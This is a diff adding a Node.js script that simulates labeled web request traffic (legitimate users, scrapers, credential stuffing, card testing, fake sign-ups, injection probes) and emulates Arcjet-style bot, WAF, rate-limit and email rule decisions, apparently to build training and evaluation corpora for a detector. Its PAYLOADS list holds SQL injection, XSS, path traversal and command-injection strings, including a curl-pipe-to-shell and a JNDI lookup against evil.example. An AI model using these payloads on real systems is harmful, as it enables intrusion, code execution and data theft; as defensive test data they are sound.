@@ -1,0 +1,415 @@
+// Seeded simulator of labeled request traffic: request, app context, the rule decision as Arcjet
+// would shape it, the scenario and its labels (bot / attack / abuse; none = legitimate).
+//
+//   node scripts/simulate.mjs --n 100000 --seed 7 --pool train --out corpus.jsonl
+//
+// Real public data: browser user agents with market shares (user-agents), crawler and tool user
+// agents (crawler-user-agents), disposable and free email domains. `--pool train|eval` splits every
+// list by a hash of its entries (80/20), so an evaluation corpus holds clients and domains that
+// training never saw. Rules are emulated after Arcjet's documented behavior, with their real
+// failure modes: a bot list that misses unknown bots, a WAF that trips on O'Brien, rate limits
+// that block whole offices, an email check that only knows listed disposable domains.
+import { createHash } from 'node:crypto'
+import { createWriteStream, readFileSync } from 'node:fs'
+import { dirname, join } from 'node:path'
+import { parseArgs } from 'node:util'
+import { uniformFloat64 } from 'pure-rand/distribution/uniformFloat64'
+import { xoroshiro128plus } from 'pure-rand/generator/xoroshiro128plus'
+
+const root = join(dirname(new URL(import.meta.url).pathname), '..')
+const readJson = (path) => JSON.parse(readFileSync(join(root, 'node_modules', path), 'utf8'))
+const listFile = (name) =>
+  readFileSync(join(root, 'crates/refiner-core/data', name), 'utf8').split('\n').filter((l) => l && !l.startsWith('#'))
+
+/** Scenario → [weight, labels]. Legitimate traffic dominates, as in real life. */
+export const SCENARIOS = {
+  legit_browse: [24, {}],
+  legit_signup: [7, {}],
+  legit_login: [9, {}],
+  legit_checkout: [7, {}],
+  legit_api_client: [3, {}],
+  legit_shared_ip: [6, {}],
+  legit_privacy: [4, {}],
+  legit_waf_trip: [3, {}],
+  legit_new_device: [3, {}],
+  good_bot: [3, {}],
+  scraper_headless: [5, { bot: true }],
+  scraper_tool: [4, { bot: true }],
+  credential_stuffing: [5, { bot: true, abuse: true }],
+  card_testing: [4, { bot: true, abuse: true }],
+  fake_signup: [5, { bot: true, abuse: true }],
+  injection_probe: [4, { attack: true }],
+}
+
+function rngFrom(seed) {
+  const g = xoroshiro128plus(seed >>> 0)
+  const u = () => uniformFloat64(g)
+  const r = {
+    u,
+    int: (lo, hi) => lo + Math.floor(u() * (hi - lo + 1)),
+    chance: (p) => u() < p,
+    pick: (xs) => xs[Math.floor(u() * xs.length)],
+    /** Log-normal with the given median and spread (σ of ln). */
+    logn: (median, sigma) => median * Math.exp(sigma * gauss(u)),
+    weighted(items, weightOf) {
+      let total = 0
+      for (const x of items) total += weightOf(x)
+      let t = u() * total
+      for (const x of items) if ((t -= weightOf(x)) <= 0) return x
+      return items[items.length - 1]
+    },
+  }
+  return r
+}
+
+function gauss(u) {
+  return Math.sqrt(-2 * Math.log(1 - u())) * Math.cos(2 * Math.PI * u())
+}
+
+const inPool = (pool) => (s) => {
+  if (pool === 'all') return true
+  const h = createHash('sha1').update(String(s)).digest()[0]
+  return pool === 'eval' ? h < 51 : h >= 51
+}
+
+function loadPools(pool) {
+  const keep = inPool(pool)
+  const browsers = readJson('user-agents/dist/user-agents.json').filter((b) => keep(b.userAgent))
+  const crawlers = readJson('crawler-user-agents/crawler-user-agents.json').filter((c) => c.instances?.length && keep(c.pattern))
+  const searchEngines = crawlers.filter((c) => /google|bing|duckduck|applebot|yandex|baidu/i.test(c.pattern))
+  return {
+    browsers,
+    crawlers,
+    searchEngines: searchEngines.length ? searchEngines : crawlers.slice(0, 5),
+    disposable: listFile('disposable-domains.txt').filter(keep),
+    // Arcjet knows every listed disposable domain, in either pool.
+    disposableKnown: new Set(listFile('disposable-domains.txt')),
+    free: ['gmail.com', 'yahoo.com', 'outlook.com', 'hotmail.com', 'icloud.com', 'aol.com', 'proton.me', 'gmx.de', 'yandex.ru', 'mail.ru'],
+    freeTail: listFile('free-providers.txt').filter(keep),
+  }
+}
+
+// Hand-written here; the training issue replaces them with payloads from a public package.
+const PAYLOADS = {
+  sqli: ["' OR '1'='1", "1' UNION SELECT username, password FROM users--", "1; DROP TABLE orders", "admin'--", "1 AND SLEEP(5)", "' or 1=1 limit 1 -- -+"],
+  xss: ['<script>alert(1)</script>', '"><img src=x onerror=alert(document.cookie)>', "javascript:alert('x')", '<svg onload=alert(1)>'],
+  traversal: ['../../../../etc/passwd', '..%2F..%2F..%2Fetc%2Fpasswd', '....//....//windows/win.ini', '/.env', '/.git/config'],
+  command: ['; cat /etc/passwd', '$(curl http://evil.example/x.sh | sh)', '| id', '`whoami`', '${jndi:ldap://evil.example/a}'],
+}
+const TOOL_UAS = ['curl/8.5.0', 'python-requests/2.31.0', 'Go-http-client/1.1', 'axios/1.6.7', 'Wget/1.21.4', 'okhttp/4.12.0', 'Java/17.0.9', 'node-fetch/1.0', 'PostmanRuntime/7.36.0', 'python-httpx/0.27.0']
+// Bots no list knows: names made up per request, the kind rules miss.
+const unknownBotUa = (r) => r.pick([
+  () => `${r.pick(['Data', 'Price', 'Market', 'Seo', 'Link', 'Shop'])}${r.pick(['Bot', 'Crawler', 'Spider', 'Scraper', 'Fetcher'])}/${r.int(1, 9)}.${r.int(0, 9)}`,
+  () => `Dart/${r.int(2, 3)}.${r.int(0, 9)} (dart:io)`,
+  () => '',
+  () => `Mozilla/5.0 (compatible; ${r.pick(['acme', 'zeta', 'helio'])}-agent/${r.int(1, 5)}.0)`,
+])()
+const APP_UAS = ['ShopApp/4.2.1 (iPhone; iOS 17.5; Scale/3.00)', 'ShopApp/4.1.0 (Android 14; Pixel 8)', 'okhttp/4.12.0', 'Dalvik/2.1.0 (Linux; U; Android 13; SM-S911B Build/TP1A.220624.014)']
+
+const FIRST = ['anna', 'john', 'maria', 'li', 'ahmed', 'sofia', 'lucas', 'emma', 'noah', 'olivia', 'mia', 'liam', 'sean', 'chloe', 'yuki', 'ines']
+const LAST = ['smith', 'garcia', 'obrien', 'muller', 'rossi', 'nguyen', 'kowalski', 'silva', 'kim', 'dubois', 'oconnor', 'patel']
+
+function humanEmail(r, pools) {
+  const local = r.pick([
+    () => `${r.pick(FIRST)}.${r.pick(LAST)}`,
+    () => `${r.pick(FIRST)}${r.pick(LAST)}${r.int(1, 99)}`,
+    () => `${r.pick(FIRST)[0]}${r.pick(LAST)}`,
+    () => `${r.pick(FIRST)}.${r.pick(LAST)}+${r.pick(['shop', 'news', 'orders'])}`,
+  ])()
+  const domain = r.chance(0.62) ? r.pick(pools.free) : r.chance(0.3) ? r.pick(pools.freeTail) : `${r.pick(['acme', 'globex', 'initech', 'umbrella', 'stark', 'wayne'])}${r.pick(['', '-corp', 'labs'])}.${r.pick(['com', 'io', 'de', 'co.uk'])}`
+  return `${local}@${domain}`
+}
+
+function fakeEmail(r, pools) {
+  const rand = () => Array.from({ length: r.int(8, 14) }, () => r.pick('abcdefghijklmnopqrstuvwxyz0123456789'.split(''))).join('')
+  const local = r.pick([rand, () => `${r.pick(FIRST)}${r.int(1000, 99999)}`, () => `user${r.int(10000, 999999)}`])()
+  const domain = r.chance(0.5) ? r.pick(pools.disposable)
+    : r.chance(0.4) ? `${rand().slice(0, 7)}mail.${r.pick(['com', 'net', 'xyz'])}` // a new disposable service no list has
+    : r.pick(pools.free)
+  return `${local}@${domain}`
+}
+
+const ip = (r, kind) =>
+  kind === 'private' ? `10.${r.int(0, 255)}.${r.int(0, 255)}.${r.int(1, 254)}`
+    : kind === 'v6' ? `2a02:${r.int(4096, 65535).toString(16)}:${r.int(0, 65535).toString(16)}::${r.int(1, 65535).toString(16)}`
+    : `${r.int(1, 223)}.${r.int(0, 255)}.${r.int(0, 255)}.${r.int(1, 254)}`
+
+function browserHeaders(r, ua, { returning = true, navigation = true, strip = 0 } = {}) {
+  const chromium = /Chrome\/|Edg\/|OPR\//.test(ua) && !/CriOS|FxiOS/.test(ua)
+  const h = {
+    'user-agent': ua,
+    accept: navigation ? 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8' : 'application/json, text/plain, */*',
+    'accept-language': r.pick(['en-US,en;q=0.9', 'de-DE,de;q=0.9,en;q=0.8', 'fr-FR,fr;q=0.9', 'en-GB,en;q=0.8', 'es-ES,es;q=0.9']),
+    'accept-encoding': 'gzip, deflate, br',
+    'sec-fetch-mode': navigation ? 'navigate' : 'cors',
+    'sec-fetch-site': returning ? 'same-origin' : 'none',
+    host: 'shop.example',
+  }
+  if (chromium && r.chance(0.97)) {
+    const v = /Chrome\/(\d+)/.exec(ua)?.[1] ?? '131'
+    h['sec-ch-ua'] = `"Chromium";v="${v}", "Not_A Brand";v="24"`
+  }
+  if (navigation) h['upgrade-insecure-requests'] = '1'
+  if (returning || r.chance(0.3)) h.referer = 'https://shop.example/'
+  if (returning) h.cookie = 'sid=…'
+  // Automation frameworks and privacy tools drop some headers.
+  for (const k of Object.keys(h)) if (k !== 'user-agent' && k !== 'host' && r.chance(strip)) delete h[k]
+  return h
+}
+
+function toolHeaders(r, ua) {
+  const h = { accept: '*/*', host: 'shop.example' }
+  if (ua) h['user-agent'] = ua
+  if (r.chance(0.5)) h['accept-encoding'] = 'gzip, deflate'
+  if (r.chance(0.1)) h['accept-language'] = 'en'
+  return h
+}
+
+const ROUTE_PATHS = {
+  other: ['/', '/products/shoes', '/products/123', '/search?q=red+shoes', '/blog/summer-sale', '/cart', '/about'],
+  signup: ['/signup', '/account/register'],
+  login: ['/login', '/account/sign-in'],
+  checkout: ['/checkout', '/checkout/pay', '/api/payments'],
+  api: ['/api/v1/orders', '/api/v1/products?page=2', '/api/v1/me'],
+}
+
+/** Context a real user leaves behind on `route`. */
+function humanContext(r, route, { fresh = false } = {}) {
+  const account = route === 'signup' ? 0 : r.logn(200, 1.5)
+  const c = {
+    route,
+    sessionAgeS: fresh ? r.logn(40, 1) : r.logn(400, 1.2),
+    sessionRequests: Math.round(fresh ? r.logn(2, 0.8) : r.logn(14, 0.9)),
+    pagesSeen: Math.round(fresh ? r.logn(1.5, 0.6) : r.logn(6, 0.8)),
+    failedLogins: route === 'login' && r.chance(0.12) ? r.int(1, 3) : 0,
+    accountAgeDays: Math.round(account),
+    emailVerified: route !== 'signup' && r.chance(0.9),
+    loggedIn: route === 'checkout' || route === 'api' ? r.chance(0.8) : route === 'other' && r.chance(0.4),
+  }
+  if (route === 'signup' || route === 'login' || route === 'checkout') c.formFillMs = Math.round(r.logn(route === 'login' ? 6000 : 25000, 0.6))
+  if (route === 'checkout') Object.assign(c, { cartValue: Math.round(r.logn(60, 0.9) * 100) / 100, paymentAttempts: r.chance(0.9) ? 1 : r.int(2, 3) })
+  return c
+}
+
+/** Context left by automation: short sessions, inhumanly fast forms; `mimic` makes it look human. */
+function botContext(r, route, mimic) {
+  if (mimic) return humanContext(r, route, { fresh: r.chance(0.6) })
+  const c = {
+    route,
+    sessionAgeS: r.logn(3, 1),
+    sessionRequests: r.int(0, 2),
+    pagesSeen: r.int(0, 1),
+    failedLogins: 0,
+    accountAgeDays: route === 'signup' ? 0 : Math.round(r.logn(30, 2)),
+    emailVerified: false,
+    loggedIn: false,
+  }
+  if (route === 'signup' || route === 'login' || route === 'checkout') c.formFillMs = Math.round(r.logn(900, 0.8))
+  return c
+}
+
+/** Drops context fields the app does not report (some apps report none). */
+function thin(r, ctx) {
+  if (r.chance(0.12)) return { route: ctx.route }
+  if (r.chance(0.1)) return undefined
+  for (const k of Object.keys(ctx)) if (k !== 'route' && r.chance(0.1)) delete ctx[k]
+  return ctx
+}
+
+function makeSample(r, pools, scenario, difficulty) {
+  const hard = r.chance(difficulty)
+  const browserUa = () => r.weighted(pools.browsers, (b) => b.weight).userAgent
+  let s
+  switch (scenario) {
+    case 'legit_browse':
+    case 'legit_signup':
+    case 'legit_login':
+    case 'legit_checkout': {
+      const route = { legit_browse: 'other', legit_signup: 'signup', legit_login: 'login', legit_checkout: 'checkout' }[scenario]
+      const ctx = humanContext(r, route)
+      s = { net: { kind: r.chance(0.15) ? 'v6' : 'public', requests: r.int(1, 8) }, route, ua: browserUa(), ctx, returning: route !== 'signup' || r.chance(0.5) }
+      if (route === 'signup' || route === 'login') s.email = humanEmail(r, pools)
+      break
+    }
+    case 'legit_api_client':
+      s = { net: { kind: 'public', requests: r.int(5, 40) }, route: 'api', ua: r.pick(APP_UAS), tool: true, ctx: { ...humanContext(r, 'api'), loggedIn: true } }
+      break
+    case 'legit_shared_ip': {
+      // Carrier-grade NAT, offices, universities: one IP, many people, rate limits fire.
+      const route = r.pick(['other', 'other', 'signup', 'login', 'checkout'])
+      s = { net: { kind: 'public', requests: r.int(40, 400) }, route, ua: browserUa(), ctx: humanContext(r, route), returning: r.chance(0.7) }
+      if (route === 'signup' || route === 'login') s.email = humanEmail(r, pools)
+      break
+    }
+    case 'legit_privacy': {
+      const route = r.pick(['other', 'signup', 'login', 'checkout'])
+      const tor = r.chance(0.15)
+      s = { net: { kind: 'public', vpn: !tor, tor, relay: r.chance(0.2), requests: r.int(1, 30) }, route, ua: browserUa(), ctx: humanContext(r, route), strip: 0.25, returning: r.chance(0.6) }
+      if (route === 'signup' || route === 'login') s.email = humanEmail(r, pools)
+      break
+    }
+    case 'legit_waf_trip': {
+      // O'Brien in a name field, code pasted into a support form: the WAF trips.
+      const route = r.pick(['other', 'signup', 'checkout'])
+      s = { net: { kind: 'public', requests: r.int(1, 8) }, route, ua: browserUa(), ctx: humanContext(r, route), returning: true, method: 'POST',
+        body: r.pick([`Hi, I'm ${r.pick(['Sean', 'Mary', 'Liam'])} O'${r.pick(['Brien', 'Connor', 'Neill'])}, order #${r.int(1000, 9999)} never arrived`,
+          'My script fails: SELECT * FROM orders WHERE id = 1; -- what is wrong?', 'The page shows <script> tags in the product description & "quotes"',
+          "Name: D'Angelo; Address: 12 Rue de l'Église", 'Error: cat: /etc/hosts: permission denied when running your CLI']),
+        shieldFp: true }
+      break
+    }
+    case 'legit_new_device': {
+      const route = r.pick(['login', 'checkout'])
+      s = { net: { kind: r.chance(0.5) ? 'v6' : 'public', requests: r.int(1, 5) }, route, ua: browserUa(), ctx: { ...humanContext(r, route, { fresh: true }), accountAgeDays: Math.round(r.logn(900, 0.8)) }, returning: false }
+      if (route === 'login') s.email = humanEmail(r, pools)
+      break
+    }
+    case 'good_bot': {
+      const c = r.pick(pools.searchEngines)
+      s = { net: { kind: 'public', hosting: true, requests: r.int(5, 60) }, route: 'other', ua: r.pick(c.instances), tool: true, verified: true, ctx: undefined }
+      break
+    }
+    case 'scraper_headless': {
+      // Real browser UAs (or HeadlessChrome), rotating residential IPs: little for rules to see.
+      const ua = hard ? browserUa() : browserUa().replace(/Chrome\//, 'HeadlessChrome/')
+      s = { net: { kind: 'public', hosting: !hard && r.chance(0.5), proxy: !hard && r.chance(0.3), requests: r.int(1, hard ? 6 : 40) }, route: r.chance(0.8) ? 'other' : 'api', ua, ctx: botContext(r, 'other', hard), strip: hard ? 0.15 : 0.45, returning: hard && r.chance(0.4) }
+      break
+    }
+    case 'scraper_tool': {
+      const known = r.chance(0.5)
+      const listed = known && r.chance(0.5)
+      const ua = listed ? r.pick(r.pick(pools.crawlers).instances) : known ? r.pick(TOOL_UAS) : unknownBotUa(r)
+      s = { crawler: listed, net: { kind: 'public', hosting: r.chance(0.7), requests: r.int(5, 120) }, route: r.pick(['other', 'other', 'api']), ua, tool: true, ctx: r.chance(0.5) ? botContext(r, 'other', false) : undefined }
+      break
+    }
+    case 'credential_stuffing': {
+      // Slow and distributed: one or two tries per IP, so rate limits rarely fire.
+      s = { net: { kind: 'public', hosting: !hard && r.chance(0.5), proxy: r.chance(0.3), requests: r.int(1, hard ? 3 : 20) }, route: 'login', ua: hard ? browserUa() : r.chance(0.5) ? browserUa() : r.pick(TOOL_UAS), method: 'POST',
+        ctx: { ...botContext(r, 'login', hard), failedLogins: r.int(hard ? 1 : 2, hard ? 4 : 12) }, email: humanEmail(r, pools), strip: hard ? 0.1 : 0.4 }
+      s.tool = !/Mozilla/.test(s.ua)
+      break
+    }
+    case 'card_testing': {
+      s = { net: { kind: 'public', hosting: !hard && r.chance(0.4), proxy: r.chance(0.3), requests: r.int(1, hard ? 5 : 60) }, route: 'checkout', ua: browserUa(), method: 'POST',
+        ctx: { ...botContext(r, 'checkout', hard), cartValue: Math.round(r.logn(2, 0.7) * 100) / 100, paymentAttempts: r.int(hard ? 2 : 3, hard ? 5 : 25), accountAgeDays: r.int(0, 2) }, strip: hard ? 0.1 : 0.35 }
+      break
+    }
+    case 'fake_signup': {
+      s = { net: { kind: 'public', hosting: !hard && r.chance(0.5), requests: r.int(1, hard ? 4 : 50) }, route: 'signup', ua: hard ? browserUa() : r.chance(0.7) ? browserUa() : r.pick(TOOL_UAS), method: 'POST',
+        ctx: botContext(r, 'signup', hard), email: hard && r.chance(0.5) ? humanEmail(r, pools) : fakeEmail(r, pools), strip: hard ? 0.1 : 0.4 }
+      if (hard) s.ctx.formFillMs = Math.round(r.logn(2500, 0.7))
+      s.tool = !/Mozilla/.test(s.ua)
+      break
+    }
+    case 'injection_probe': {
+      const kind = r.pick(Object.keys(PAYLOADS))
+      const payload = r.pick(PAYLOADS[kind])
+      const inBody = r.chance(0.4)
+      const toolUa = r.chance(hard ? 0.2 : 0.6)
+      s = { net: { kind: 'public', hosting: r.chance(0.5), tor: r.chance(0.1), requests: r.int(1, 80) }, route: r.pick(['other', 'login', 'signup', 'api']), ua: toolUa ? r.pick([...TOOL_UAS, 'sqlmap/1.8', 'Nikto/2.5.0', '']) : browserUa(), tool: toolUa,
+        method: inBody ? 'POST' : 'GET', body: inBody ? `q=${payload}` : undefined, payload: inBody ? undefined : (kind === 'traversal' ? `/static/${payload}` : `/search?q=${encodeURIComponent(payload)}`), ctx: botContext(r, 'other', hard), injection: true }
+      break
+    }
+    default:
+      throw new Error(`unknown scenario ${scenario}`)
+  }
+  return render(r, s, scenario, pools)
+}
+
+/** Turns a scenario sketch into request + context + Arcjet-shaped decision. */
+function render(r, s, scenario, pools) {
+  const ua = s.ua ?? ''
+  const headers = s.tool ? toolHeaders(r, ua) : browserHeaders(r, ua, { returning: s.returning, navigation: !s.method || s.method === 'GET', strip: s.strip ?? 0 })
+  const path = s.payload ?? r.pick(ROUTE_PATHS[s.route])
+  const request = { ip: ip(r, s.net.kind), method: s.method ?? (s.route === 'other' || s.route === 'api' ? 'GET' : 'POST'), path, headers }
+  if (s.email) request.email = s.email
+  if (s.body) request.body = s.body
+  const context = s.ctx ? thin(r, { ...s.ctx, route: s.ctx.route === 'other' ? s.route : s.ctx.route }) : undefined
+  if (context && s.route !== 'other') context.route = s.route
+  return { scenario, labels: labels(scenario), request, ...(context ? { context } : {}), decision: rules(r, s, request, pools) }
+}
+
+const labels = (scenario) => {
+  const l = SCENARIOS[scenario][1]
+  return { bot: !!l.bot, attack: !!l.attack, abuse: !!l.abuse }
+}
+
+const knownToArcjet = (ua, fromCrawlerList) => {
+  // Arcjet's local list catches about two thirds of crawler patterns (all instances of a pattern or none),
+  // the well-known HTTP libraries, and HeadlessChrome; not browsers, made-up names or empty agents.
+  if (!ua) return false
+  if (/curl|python-requests|go-http-client|axios|wget|java\/|okhttp|headlesschrome|sqlmap|nikto|postman|node-fetch|httpx/i.test(ua)) return true
+  return fromCrawlerList && createHash('sha1').update(ua.replace(/[\d.]+/g, '')).digest()[1] < 166
+}
+
+/** The rule decision, emulating detectBot + shield + fixedWindow (+ validateEmail on sign-up). */
+function rules(r, s, request, pools) {
+  if (r.chance(0.01)) {
+    return { conclusion: 'ERROR', reason: { type: 'ERROR', message: 'timeout' }, results: [], ip: {} }
+  }
+  const results = []
+  const add = (conclusion, reason) => results.push({ ruleId: '', fingerprint: '', ttl: 0, state: 'RUN', conclusion, reason })
+  const ua = request.headers['user-agent'] ?? ''
+  const caught = !s.verified && knownToArcjet(ua, s.crawler) && !(s.route === 'api' && APP_UAS.includes(ua))
+  const spoofed = !s.verified && /googlebot|bingbot/i.test(ua) && r.chance(0.9)
+  add(caught || spoofed ? 'DENY' : 'ALLOW', { type: 'BOT', allowed: s.verified ? ['GOOGLE_CRAWLER'] : [], denied: caught ? ['AUTOMATED'] : [], verified: !!s.verified, spoofed })
+  const shield = s.injection ? r.chance(0.85) : s.shieldFp ? r.chance(0.6) : r.chance(0.002)
+  add(shield ? 'DENY' : 'ALLOW', { type: 'SHIELD', shieldTriggered: shield })
+  const max = 60
+  const remaining = Math.max(0, max - s.net.requests)
+  add(remaining === 0 ? 'DENY' : 'ALLOW', { type: 'RATE_LIMIT', max, remaining, window: 60, reset: r.int(1, 60) })
+  if (request.email && s.route === 'signup') {
+    const domain = request.email.split('@')[1] ?? ''
+    const types = []
+    if (pools.disposableKnown.has(domain)) types.push('DISPOSABLE')
+    if (pools.free.includes(domain)) types.push('FREE')
+    if (/^[a-z0-9]{7}mail\.(com|net|xyz)$/.test(domain) && r.chance(0.5)) types.push('NO_MX_RECORDS')
+    add(types.some((t) => t !== 'FREE') ? 'DENY' : 'ALLOW', { type: 'EMAIL', emailTypes: types })
+  }
+  const denied = results.find((x) => x.conclusion === 'DENY')
+  const ipDetails = s.net.kind === 'private' ? {} : {
+    country: r.pick(['US', 'DE', 'FR', 'GB', 'BR', 'IN', 'JP']),
+    isHosting: !!s.net.hosting && r.chance(0.9),
+    isVpn: !!s.net.vpn && r.chance(0.8),
+    isProxy: !!s.net.proxy && r.chance(0.6),
+    isTor: !!s.net.tor && r.chance(0.95),
+    isRelay: !!s.net.relay,
+    isAbuser: !!(s.net.hosting || s.net.proxy) && r.chance(0.1),
+  }
+  return { conclusion: denied ? 'DENY' : 'ALLOW', reason: denied ? denied.reason : { type: 'RATE_LIMIT', ...results[2].reason }, results, ip: ipDetails }
+}
+
+/** Generates `n` labeled samples; same seed, same samples. */
+export function* simulate({ n, seed = 7, pool = 'all', difficulty = 0.3, mix = SCENARIOS }) {
+  const r = rngFrom(seed)
+  const pools = loadPools(pool)
+  const names = Object.keys(mix)
+  for (let i = 0; i < n; i++) {
+    const scenario = r.weighted(names, (k) => mix[k][0])
+    yield makeSample(r, pools, scenario, difficulty)
+  }
+}
+
+if (import.meta.url === `file://${process.argv[1]}`) {
+  const { values } = parseArgs({
+    options: {
+      n: { type: 'string', default: '10000' },
+      seed: { type: 'string', default: '7' },
+      pool: { type: 'string', default: 'all' },
+      difficulty: { type: 'string', default: '0.3' },
+      out: { type: 'string' },
+    },
+  })
+  if (!['train', 'eval', 'all'].includes(values.pool)) throw new RangeError(`--pool must be train, eval or all, not ${values.pool}`)
+  const out = values.out ? createWriteStream(values.out) : process.stdout
+  const n = Number(values.n)
+  let buf = ''
+  for (const s of simulate({ n, seed: Number(values.seed), pool: values.pool, difficulty: Number(values.difficulty) })) {
+    buf += `${JSON.stringify(s)}\n`
+    if (buf.length > 1 << 20) {
+      if (!out.write(buf)) await new Promise((ok) => out.once('drain', ok))
+      buf = ''
+    }
+  }
+  out.end(buf)
+}
